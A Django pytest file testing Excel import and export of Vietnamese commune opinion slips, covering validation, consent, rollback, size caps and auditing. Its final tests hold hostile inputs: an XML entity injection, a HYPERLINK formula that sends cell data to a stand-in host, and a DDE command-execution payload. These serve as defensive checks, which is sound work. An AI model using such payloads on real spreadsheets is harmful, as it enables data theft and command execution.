from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from opinions import excel, services
from opinions.models import ImportJob, Opinion, OpinionSlip
from opinions.tests.factories import make_slip

pytestmark = pytest.mark.django_db


def _row(serial, village, text="Đề nghị sửa đường làng", **changes):
    row = {
        "serial": serial,
        "village": village,
        "name": "",
        "address": "",
        "phone": "",
        "anonymous": "có",
        "consent": "",
        "respondent": "Nhân dân",
        "collector": "Thôn",
        "collected_on": "05/06/2026",
        "text": text,
        "kind": "Kiến nghị",
        "field": "Giao thông",
    }
    row.update(changes)
    return [row[key] for key, _ in excel.COLUMNS]


def _upload(client, plan, content, name="phieu.xlsx", capture=None):
    """Upload, let the queued import run, and read the page the user is sent to."""
    with capture(execute=True):
        response = client.post(
            reverse("opinions:import", args=[plan.public_id]),
            {"file": SimpleUploadedFile(name, content)},
        )
    return client.get(response.url) if response.status_code == 302 else response


@pytest.fixture
def villages(plan):
    services.ensure_fields(plan.commune)
    return [v.name for v in plan.villages.all()]


def test_the_template_has_the_columns_and_the_lists(client, plan, front, villages):
    client.force_login(front)

    response = client.get(reverse("opinions:import-template", args=[plan.public_id]))

    book = load_workbook(BytesIO(response.content))
    header = [cell.value for cell in book["Phieu"][1]]
    assert header == [title for _, title in excel.COLUMNS]
    assert [c.value for c in book["Danh muc"]["A"] if c.value][1:] == villages
    assert book["Phieu"].data_validations.dataValidation


def test_a_valid_file_creates_its_slips_and_opinions(
    client, plan, front, villages, django_capture_on_commit_callbacks
):
    client.force_login(front)
    rows = [
        _row(1, villages[0]),
        _row(1, villages[0], "Hỏi về trợ cấp", kind="Câu hỏi", field="Chính sách xã hội"),
        _row(
            2,
            "quan goi" if villages[0] == "Quán Gỏi" else villages[1].lower(),
            anonymous="không",
            consent="có",
            name="Phạm Văn Tư",
            phone="0987654321",
        ),
        _row(3, villages[0], anonymous="không", name="Lê Thị Không Đồng Ý", phone="0911222333"),
    ]

    response = _upload(
        client, plan, excel.workbook_from_rows(rows), capture=django_capture_on_commit_callbacks
    )

    assert "Đã nhập 3 phiếu" in response.content.decode()
    assert OpinionSlip.objects.filter(plan=plan).count() == 3
    assert Opinion.objects.filter(slip__serial=1).count() == 2
    agreed, silent = OpinionSlip.objects.get(serial=2), OpinionSlip.objects.get(serial=3)
    assert (agreed.name, agreed.consent, agreed.consent_notice_version) == ("Phạm Văn Tư", True, 1)
    assert (agreed.consent_channel, agreed.consent_recorded_by) == ("paper", front)
    # An empty consent cell is silence: the opinion is kept, the identity is not.
    assert (silent.consent, silent.anonymous, silent.name, silent.phone) == (False, True, "", "")
    assert silent.opinions.get().text == "Đề nghị sửa đường làng"
    job = ImportJob.objects.get()
    assert (job.status, job.rows_total, job.slips_created) == ("done", 4, 3)


def test_one_bad_row_among_500_saves_nothing_and_names_the_row_and_column(
    client, plan, front, villages, django_capture_on_commit_callbacks
):
    client.force_login(front)
    rows = [_row(n, villages[n % len(villages)]) for n in range(1, 501)]
    rows[316] = _row(317, villages[0], field="Lĩnh vực không có")

    response = _upload(
        client, plan, excel.workbook_from_rows(rows), capture=django_capture_on_commit_callbacks
    )

    html = response.content.decode()
    assert "Không lưu dòng nào" in html
    assert "Dòng 318, cột M (Lĩnh vực): không có lĩnh vực «Lĩnh vực không có»" in html
    assert not OpinionSlip.objects.exists() and not Opinion.objects.exists()


def test_rows_of_one_serial_must_agree_and_serials_already_typed_are_refused(plan, villages):
    from opinions.tests.factories import make_slip

    make_slip(plan, 5)
    rows = [
        (2, dict(zip([k for k, _ in excel.COLUMNS], _row(5, villages[0]), strict=True))),
        (3, dict(zip([k for k, _ in excel.COLUMNS], _row(6, villages[0]), strict=True))),
        (4, dict(zip([k for k, _ in excel.COLUMNS], _row(6, villages[1]), strict=True))),
        (
            5,
            dict(
                zip(
                    [k for k, _ in excel.COLUMNS],
                    _row(7, villages[0], collected_on="31/02/2026"),
                    strict=True,
                )
            ),
        ),
    ]

    _, errors = excel.parse(plan, rows)

    messages = [e.as_text() for e in errors]
    assert "Dòng 2, cột A (Số phiếu): phiếu số 5 đã được nhập trước đây." in messages
    assert any(m.startswith("Dòng 4, cột A") and "dòng 3" in m for m in messages)
    assert any(m.startswith("Dòng 5, cột J") for m in messages)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("phieu.csv", b"a,b,c", "Chỉ nhận tệp Excel .xlsx"),
        ("phieu.xlsx", b"not a zip at all", "không đọc được như một tệp Excel"),
        ("phieu.xlsx", b"PK\x03\x04" + b"\x00" * 100, "Không đọc được tệp Excel"),
    ],
)
def test_a_file_that_is_not_a_good_xlsx_gets_a_clear_message(
    client, plan, front, villages, name, content, message, django_capture_on_commit_callbacks
):
    client.force_login(front)

    response = _upload(client, plan, content, name=name, capture=django_capture_on_commit_callbacks)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert not OpinionSlip.objects.exists()


def test_a_file_with_the_wrong_columns_is_refused(
    client, plan, front, villages, django_capture_on_commit_callbacks
):
    book = Workbook()
    book.active.append(["STT", "Họ tên", "Ý kiến"])
    buffer = BytesIO()
    book.save(buffer)
    client.force_login(front)

    response = _upload(client, plan, buffer.getvalue(), capture=django_capture_on_commit_callbacks)

    assert "Dòng đầu của tệp không khớp với mẫu" in response.content.decode()


def test_a_file_too_large_is_refused(client, plan, front, settings):
    client.force_login(front)
    big = SimpleUploadedFile("phieu.xlsx", b"PK\x03\x04" + b"0" * (5 * 1024 * 1024 + 1))

    response = client.post(reverse("opinions:import", args=[plan.public_id]), {"file": big})

    assert "tối đa 5 MB" in response.content.decode()
    assert not ImportJob.objects.exists()


def test_the_progress_fragment_answers_htmx_polls(client, plan, front, villages):
    job = ImportJob.objects.create(
        plan=plan, filename="x.xlsx", created_by=front, rows_total=400, rows_done=100
    )
    client.force_login(front)

    response = client.get(
        reverse("opinions:import-status", args=[job.public_id]), HTTP_HX_REQUEST="true"
    )

    html = response.content.decode()
    assert html.lstrip().startswith('<div id="import-progress"')
    assert 'value="25"' in html and "100/400 dòng" in html
    assert 'hx-trigger="every 1s"' in html


def test_export_has_opinions_and_petitions(client, plan, front, villages):
    from opinions.tests.factories import make_slip

    make_slip(plan, 3, ["Đề nghị lắp đèn đường"], name="Hoàng Thị Mai")
    client.force_login(front)

    response = client.get(reverse("opinions:export", args=[plan.public_id]))

    book = load_workbook(BytesIO(response.content))
    rows = list(book["Y kien"].values)
    assert rows[1][2] == "Hoàng Thị Mai" and rows[1][7] == "Đề nghị lắp đèn đường"
    assert list(book["Kien nghi"].values)[0][1] == "Kiến nghị tổng hợp"


def _import(plan, front, content) -> ImportJob:
    """An uploaded workbook run through the import as the worker runs it."""
    from django.core.files.base import ContentFile  # noqa: PLC0415

    from opinions import imports  # noqa: PLC0415

    job = ImportJob.objects.create(
        plan=plan,
        file=ContentFile(content, name="phieu.xlsx"),
        filename="phieu.xlsx",
        created_by=front,
    )
    return imports.run(job)


def test_reading_stops_at_the_row_limit_and_says_so(plan, front, villages, monkeypatch):
    monkeypatch.setattr(excel, "MAX_ROWS", 20)
    rows = [_row(n, villages[0]) for n in range(1, 101)]

    job = _import(plan, front, excel.workbook_from_rows(rows))

    assert job.status == "failed"
    assert job.errors == [
        "Tệp có hơn 20 dòng dữ liệu: đã dừng đọc ở dòng 22. Hãy chia thành nhiều tệp nhỏ hơn."
    ]
    assert not OpinionSlip.objects.exists()


def test_a_workbook_that_unpacks_past_the_cap_is_refused_unread(plan, front, villages, monkeypatch):
    monkeypatch.setattr(excel, "MAX_UNPACKED_BYTES", 20_000)
    rows = [_row(n, villages[0], text="Đề nghị " * 40) for n in range(1, 101)]

    job = _import(plan, front, excel.workbook_from_rows(rows))

    assert job.status == "failed"
    assert job.errors[0].startswith("Tệp Excel quá lớn khi giải nén")
    assert "mỗi tệp không quá 20.000 dòng" in job.errors[0]


def test_xml_entities_in_a_workbook_are_refused_not_expanded(plan, front, villages):
    import zipfile  # noqa: PLC0415

    good = excel.workbook_from_rows([_row(1, villages[0])])
    source, target = BytesIO(good), BytesIO()
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(target, "w") as rewritten:
        for item in archive.infolist():
            data = archive.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                # The first header cell through an entity: expanded, the file would import.
                header = "Số phiếu".encode()
                data = data.replace(header, b"&h;", 1).replace(
                    b"<worksheet",
                    b'<!DOCTYPE worksheet [<!ENTITY h "' + header + b'">]><worksheet',
                    1,
                )
            rewritten.writestr(item, data)

    job = _import(plan, front, target.getvalue())

    assert job.status == "failed"
    assert not OpinionSlip.objects.exists()


def test_a_slip_typed_while_the_file_is_checked_fails_the_import_with_the_reason(
    plan, front, villages, monkeypatch
):
    real_parse = excel.parse

    def parse_while_someone_types_slip_2(*args, **kwargs):
        checked = real_parse(*args, **kwargs)
        make_slip(plan, 2, by=front)
        return checked

    monkeypatch.setattr(excel, "parse", parse_while_someone_types_slip_2)
    rows = [_row(1, villages[0]), _row(2, villages[0]), _row(3, villages[0])]

    job = _import(plan, front, excel.workbook_from_rows(rows))

    assert job.status == "failed"
    assert "đã được nhập ở nơi khác" in job.errors[0]
    assert list(OpinionSlip.objects.values_list("serial", flat=True)) == [2]


def test_an_import_that_dies_while_saving_leaves_nothing_written(
    plan, front, villages, monkeypatch
):
    from kesat_dialogue import audit  # noqa: PLC0415

    def power_cut(*args, **kwargs):
        raise RuntimeError("mất điện giữa chừng")

    monkeypatch.setattr(audit, "record_many", power_cut)
    rows = [_row(1, villages[0]), _row(2, villages[1])]

    job = _import(plan, front, excel.workbook_from_rows(rows))

    assert job.status == "failed" and "chưa phiếu nào trong tệp được lưu" in job.errors[0]
    assert not OpinionSlip.objects.exists() and not Opinion.objects.exists()


def test_imported_slips_get_the_audit_entries_of_typed_ones(plan, front, villages):
    from kesat_dialogue.models import AuditEntry  # noqa: PLC0415

    rows = [_row(1, villages[0]), _row(1, villages[0], "Hỏi về trợ cấp")]

    _import(plan, front, excel.workbook_from_rows(rows))

    slip = OpinionSlip.objects.get()
    entries = AuditEntry.objects.filter(action="created", user=front)
    slip_entry = entries.get(object_id=str(slip.pk), content_type__model="opinionslip")
    assert slip_entry.changes["serial"] == [None, 1]
    assert entries.filter(content_type__model="opinion").count() == 2


def test_typed_text_that_looks_like_a_formula_is_exported_as_text(client, plan, front, villages):
    hostile = [
        '=HYPERLINK("http://x.example/?d="&B2,"Xem")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ]
    make_slip(plan, 4, hostile, name="=CMD|' /C calc'!A0")
    client.force_login(front)

    response = client.get(reverse("opinions:export", args=[plan.public_id]))

    sheet = load_workbook(BytesIO(response.content))["Y kien"]
    cells = [row[7] for row in sheet.iter_rows(min_row=2)] + [sheet["C2"]]
    assert all(cell.data_type == "s" for cell in cells)
    # A carriage return reads back as a line feed or as itself (openpyxl with or without
    # lxml); the leading quote is what matters.
    expected = ["'" + text.replace("\r", "\n") for text in [*hostile, "=CMD|' /C calc'!A0"]]
    assert [cell.value.replace("\r", "\n") for cell in cells] == expected
